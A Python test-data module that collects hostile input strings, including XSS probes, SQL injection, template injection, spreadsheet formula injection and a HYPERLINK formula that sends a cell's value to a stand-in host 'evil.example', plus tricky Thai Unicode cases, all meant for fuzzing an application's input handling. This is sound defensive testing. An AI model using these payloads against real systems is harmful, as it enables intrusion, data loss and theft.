"""Hostile text for tests: the Big List of Naughty Strings and Thai-specific strings of our own."""

import json
from functools import cache
from pathlib import Path

DATA = Path(__file__).parent / "data"

# Each sets window.__pwned if a page ever runs it; the browser tests look for it.
PROBES = [
    "<script>window.__pwned=1</script>",
    "<img src=x onerror=window.__pwned=1>",
    '"><svg onload=window.__pwned=1>',
    "</textarea><script>window.__pwned=1</script>",
    "javascript:window.__pwned=1",
    '<a href="javascript:window.__pwned=1">คลิก</a>',
    '\'-alert(1)-\'"><iframe srcdoc="<script>parent.__pwned=1</script>">',
]

# What our own users are likely to send, or an attacker to try, in Thai.
THAI = [
    "ก" + "\u0e48\u0e49\u0e4a\u0e4b\u0e31\u0e34" * 30,  # tone marks and vowels stacked
    "ปู่่่่่่่่่่่่่่่่่่ ป้้้้้้้้้้้้",
    "น้ำ นํ้า",  # the same word, precomposed sara am and decomposed
    "หมู่ ๖ บ้านเลขที่ ๑๒/๓ โทร ๐๘๑-๒๓๔-๕๖๗๘",
    "ถนน\u200bพัง\u200dหน้า\u200cวัด\u2060",  # zero-width space, joiner, non-joiner, word joiner
    "\u202eเรื่องร้องเรียน fdp.exe",  # right-to-left override
    "\u200f\u202bשלום مرحبا\u202c ถนนพัง",
    "ไฟดับ\x00หมู่ 3",  # NUL, which PostgreSQL cannot store
    "บรรทัดแรก\r\nบรรทัดสอง\rบรรทัดสาม\n",
    "ถนนพังมาก " * 480,  # a long line under the 5000-character limit
    "ก" * 5001,  # one past it
    "{{ request.user.password }} {% debug %} {{ 7|add:7 }}",
    "{% load static %}{% include 'base.html' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "'; DROP TABLE inbox_case; --",
    "1' OR '1'='1' -- ถนน",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"ดูรายละเอียด")',
    "\t=1+1",
    *PROBES,
]

# Only a JSON body can carry these; a form post is UTF-8 and cannot.
LONE_SURROGATES = ["ถนน\ud800พัง", "\udfff"]


@cache
def blns() -> tuple[str, ...]:
    """The Big List of Naughty Strings (MIT, see data/blns.LICENSE)."""
    return tuple(json.loads((DATA / "blns.json").read_text("utf-8")))


def corpus() -> list[str]:
    return [*blns(), *THAI]


def sample(step: int = 20) -> list[str]:
    """Every Thai string and every `step`-th of the big list: for the slower paths."""
    return [*blns()[::step], *THAI]


def ids(strings: list[str]) -> list[str]:
    """Short readable test ids: an index and the string's first characters, escaped."""
    return [f"{n}-{ascii(s[:12])[1:-1]}" for n, s in enumerate(strings)]
